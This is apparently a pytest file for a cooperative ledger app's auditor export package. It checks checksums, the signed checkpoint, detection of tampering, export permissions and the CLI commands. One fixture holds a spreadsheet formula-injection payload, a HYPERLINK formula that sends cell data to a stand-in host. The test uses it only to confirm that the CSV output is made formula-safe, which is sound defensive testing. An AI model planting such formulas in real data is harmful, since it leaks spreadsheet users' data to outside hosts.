"""The auditor's package: vouchers and lines as CSV (formula-safe), ledgers and statements as
PDF, the audit log, findings, a signed checkpoint and a manifest of SHA-256 checksums."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from pathlib import Path
from typing import Any

from click.testing import CliRunner

from coopledger.adapters.audit_package_zip import verify_package
from coopledger.cli import main
from coopledger.domain.audit_log import checkpoint_key
from tests.audit.helpers import ORG, cli_books
from tests.conftest import Books

KEY = checkpoint_key("test-secret")


def package(books: Books, user: str = "aud") -> bytes:
    response = books.get(user, f"{ORG}/audit/export", query_string={"year": 2026})
    assert response.status_code == 200, response.data[:300]
    assert response.mimetype == "application/zip"
    assert response.headers["Content-Disposition"].startswith(
        'attachment; filename="audit-coop-2026'
    )
    return bytes(response.data)


def rows(zf: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(zf.read(name).decode("utf-8-sig"))))


def test_the_package_holds_everything_with_checksums(books: Books) -> None:
    v = books.posted(memo='=HYPERLINK("http://x/?"&A1,"x")')
    data = package(books)
    zf = zipfile.ZipFile(io.BytesIO(data))
    names = set(zf.namelist())
    assert {
        "vouchers.csv",
        "voucher_lines.csv",
        "audit_log.csv",
        "findings.json",
        "checkpoint.json",
        "manifest.json",
        "reports/trial-balance.pdf",
        "reports/balance-sheet.pdf",
        "reports/surplus.pdf",
        "ledgers/102.pdf",
        "ledgers/301.pdf",
    } <= names
    manifest = json.loads(zf.read("manifest.json"))
    for name, digest in manifest["files"].items():
        assert hashlib.sha256(zf.read(name)).hexdigest() == digest
    assert manifest["voucher_chain"] == {"seq": 1, "head": v["hash"]}
    assert zf.read("reports/trial-balance.pdf").startswith(b"%PDF-")
    (voucher,) = rows(zf, "vouchers.csv")
    assert voucher["memo"].startswith("'=HYPERLINK") and voucher["hash"] == v["hash"]
    lines = rows(zf, "voucher_lines.csv")
    assert [(ln["account"], ln["side"], ln["amount"]) for ln in lines] == [
        ("102", "D", "1000.00"),
        ("301", "C", "1000.00"),
    ]
    log = rows(zf, "audit_log.csv")
    assert {"voucher.create", "voucher.review", "voucher.post"} <= {e["action"] for e in log}
    assert verify_package(data, KEY).ok


def test_the_export_itself_is_logged(books: Books) -> None:
    books.posted()
    package(books)
    exports = books.get("aud", f"{ORG}/audit/log", query_string={"action": "export"}).json["items"]
    assert [(e["user"], e["object"]) for e in exports] == [("aud", "audit-package 2026")]


def test_auditors_admins_and_the_own_accountant_export(books: Books) -> None:
    assert books.get("acc", f"{ORG}/audit/export?year=2026").status_code == 200
    assert books.get("rev", f"{ORG}/audit/export?year=2026").status_code == 403
    assert books.get("hh1", f"{ORG}/audit/export?year=2026").status_code == 403
    assert books.get("other-acc", f"{ORG}/audit/export?year=2026").status_code == 404
    assert books.get("admin", f"{ORG}/audit/export?year=2026").status_code == 200


def _rezip(data: bytes, change: dict[str, bytes | None]) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for name in src.namelist():
            if name in change:
                if change[name] is not None:
                    dst.writestr(name, change[name] or b"")
                continue
            dst.writestr(name, src.read(name))
        for name, content in change.items():
            if name not in src.namelist() and content is not None:
                dst.writestr(name, content)
    return out.getvalue()


def test_a_tampered_package_is_caught(books: Books) -> None:
    books.posted()
    data = package(books)
    zf = zipfile.ZipFile(io.BytesIO(data))
    edited = zf.read("voucher_lines.csv").replace(b"1000.00", b"9000.00")
    cases: dict[str, dict[str, bytes | None]] = {
        "edited file": {"voucher_lines.csv": edited},
        "removed file": {"audit_log.csv": None},
        "added file": {"extra.csv": b"x"},
    }
    for label, change in cases.items():
        report = verify_package(_rezip(data, change), KEY)
        assert not report.ok, label
    manifest = json.loads(zf.read("manifest.json"))
    manifest["files"]["voucher_lines.csv"] = hashlib.sha256(edited).hexdigest()
    forged = _rezip(
        data, {"voucher_lines.csv": edited, "manifest.json": json.dumps(manifest).encode()}
    )
    assert verify_package(forged).ok  # checksums alone agree with a rewritten manifest…
    report = verify_package(forged, KEY)
    assert not report.ok and "signature" in report.problems[0]  # …the signature does not
    assert not verify_package(b"not a zip").ok


def test_cli_export_and_verify(
    books: Books, connection: Any, sessions: Any, tmp_path: Path
) -> None:
    books.posted()
    obj = cli_books(connection, sessions, tmp_path)
    out = tmp_path / "coop-2026.zip"
    made = CliRunner().invoke(
        main,
        ["audit", "export", "coop", "--year", "2026", "--out", str(out), "--user", "aud"],
        obj=obj,
    )
    assert made.exit_code == 0, made.output
    ok = CliRunner().invoke(main, ["audit", "verify-export", str(out)], obj=obj)
    assert ok.exit_code == 0 and "every checksum matches" in ok.output, ok.output
    out.write_bytes(_rezip(out.read_bytes(), {"findings.json": b'[{"code": "none"}]'}))
    bad = CliRunner().invoke(main, ["audit", "verify-export", str(out)], obj=obj)
    assert bad.exit_code == 1 and "findings.json" in bad.output
    refused = CliRunner().invoke(
        main,
        ["audit", "export", "coop", "--year", "2026", "--out", str(out), "--user", "rev"],
        obj=obj,
    )
    assert refused.exit_code == 1
